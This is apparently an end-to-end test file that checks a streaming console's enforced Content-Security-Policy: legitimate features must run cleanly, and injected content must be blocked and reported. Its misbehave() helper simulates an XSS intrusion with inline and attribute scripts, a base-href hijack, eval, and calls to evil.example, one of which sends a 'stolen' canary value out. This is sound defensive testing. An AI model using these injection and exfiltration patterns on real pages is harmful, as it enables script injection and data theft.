// The console under its enforced Content-Security-Policy: everything in it works and nothing is reported; what does
// not belong to it is blocked and reported.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { openBrowser, until } from "../lib/browser.mjs";
import { startServer } from "../lib/server.mjs";
import { startTlsProxy } from "../lib/tls-proxy.mjs";

const username = "policy-tester";
const password = "correct horse battery";
let server;
let proxy;
let session;
let violations;

before(async () => {
  server = await startServer({ TRUSTED_PROXIES: "127.0.0.1" });
  proxy = await startTlsProxy(server.origin);
  session = await openBrowser({ args: ["--short-reporting-delay", "--ignore-certificate-errors"] });
  violations = [];
  await session.page.exposeBinding("noteViolation", (_, violation) => void violations.push(violation));
  await session.page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      window.noteViolation(
        `${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`,
      );
    });
  });
});

after(async () => {
  await session?.browser.close();
  await proxy?.stop();
  await server?.stop();
});

async function api(method, path, token, body) {
  const answer = await fetch(`${server.origin}/api/v1${path}`, {
    method,
    headers: { ...(token && { authorization: `Bearer ${token}` }), "content-type": "application/json" },
    body: body && JSON.stringify(body),
  });
  const text = await answer.text();
  assert.ok(answer.ok, `${method} ${path}: ${answer.status} ${text}`);
  return text && JSON.parse(text);
}

const signIn = async () => (await api("POST", "/auth/login", undefined, { username, password })).access_token;

/** Everything that a script which got into the page would try. */
function misbehave() {
  const script = document.createElement("script");
  script.textContent = "window.ran = 'inline'";
  document.body.append(script);
  const markup = document.createElement("div");
  markup.innerHTML = `<img src="/nothing.png" onerror="window.ran = 'attribute'">`;
  document.body.append(markup);
  const foreign = document.createElement("script");
  foreign.src = "https://evil.example/x.js?key=CANARY";
  document.body.append(foreign);
  const frame = document.createElement("iframe");
  frame.src = "https://evil.example/";
  document.body.append(frame);
  const base = document.createElement("base");
  base.href = "https://evil.example/";
  document.head.append(base);
  // biome-ignore lint/security/noGlobalEval: it is what is tested
  setTimeout("window.ran = 'eval'", 0);
  fetch("https://evil.example/?stolen=CANARY").catch(() => {});
}

test("the console runs under the enforced policy without a violation", async () => {
  const { page, troubles } = session;
  const at = (id) => page.getByTestId(id);
  const policies = [];
  page.on("response", (response) => {
    if (response.request().isNavigationRequest())
      policies.push(response.headers()["content-security-policy"]);
  });

  await page.goto(server.link);
  await at("setup-username").fill(username);
  await at("setup-password").fill(password);
  await at("setup-submit").click();
  await at("new-stream").first().click();
  await at("source-test").click();
  await at("next-step").click();
  await at("preset-720p").click();
  await at("next-step").click();
  await at("dest-preview-only").click();
  await at("go-on-air").click();
  const video = at("player-video");
  await video.waitFor();
  await until(
    "the picture moves",
    async () => {
      const first = await video.evaluate((element) => element.currentTime);
      await new Promise((done) => setTimeout(done, 500));
      return (await video.evaluate((element) => element.currentTime)) > first + 0.2 || { first };
    },
    60_000,
  );
  assert.match(await video.evaluate((element) => element.src), /^blob:/, "media comes from a blob");
  const answer = await page.evaluate(async () => {
    const code = new Blob(["postMessage(6 * 7)"], { type: "text/javascript" });
    const worker = new Worker(URL.createObjectURL(code));
    return new Promise((done, fail) => {
      worker.onmessage = (message) => done(message.data);
      worker.onerror = () => fail(new Error("the worker does not start"));
    });
  });
  assert.equal(answer, 42, "a worker from a blob: runs");
  const width = await page.evaluate(async () => {
    const picture = new Image();
    picture.src = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=";
    await picture.decode();
    return picture.naturalWidth;
  });
  assert.equal(width, 1, "a data: picture is shown");

  await at("stop-stream").first().click();
  const sure = at("confirm-yes");
  if (await sure.isVisible().catch(() => false)) await sure.click();
  // Every page that the navigation leads to, each loaded anew with a nonce of its own.
  const places = await page.$$eval("nav a[href^='/']", (links) => [
    ...new Set(links.map((link) => link.getAttribute("href"))),
  ]);
  assert.ok(places.length > 1, `places: ${places}`);
  for (const place of [...places, "/streams/new", "/nowhere"]) {
    await page.goto(server.origin + place);
    await page.locator("main").first().waitFor();
  }
  assert.ok(
    policies.length > 3 && policies.every((policy) => /script-src 'self' 'nonce-/.test(policy)),
    `${policies}`,
  );
  assert.ok(
    policies.every((policy) => !policy.includes("unsafe")),
    `${policies}`,
  );

  // Reports come a moment later than violations: by then one that we cause on purpose has come.
  assert.deepEqual(violations, []);
  assert.deepEqual(troubles, []);
  const token = await signIn();
  assert.deepEqual(await api("GET", "/security/csp-reports", token), []);
});

test("what gets into the page does not run, and the reports arrive", async () => {
  const { page } = session;
  const token = await signIn();
  const expected = [
    "script-src-elem inline",
    "script-src-attr inline",
    "script-src-elem https://evil.example",
    "script-src eval",
    "connect-src https://evil.example",
    "frame-src https://evil.example",
    "base-uri https://evil.example",
  ];
  // Over TLS it reports by `report-to`, in clear by `report-uri`.
  for (const origin of [server.origin, proxy.origin]) {
    await api("DELETE", "/security/csp-reports", token);
    await page.goto(`${origin}/`);
    await page.locator("main").first().waitFor();
    await page.evaluate(misbehave);
    await until(
      `the reports from ${origin}`,
      async () => {
        const reports = await api("GET", "/security/csp-reports", token);
        assert.ok(!JSON.stringify(reports).includes("CANARY"), "no query is kept");
        const seen = reports.map((report) => `${report.directive} ${report.blocked}`);
        return (
          expected.every((kind) => seen.includes(kind)) || {
            missing: expected.filter((kind) => !seen.includes(kind)),
            seen,
          }
        );
      },
      60_000,
    );
    assert.equal(await page.evaluate(() => window.ran), undefined, "nothing of it ran");
    const reports = await api("GET", "/security/csp-reports", token);
    assert.ok(reports.every((report) => report.disposition === "enforce" && report.document.startsWith("/")));
  }
  assert.ok(proxy.posted.includes("application/reports+json"), `sent over TLS: ${proxy.posted}`);
});
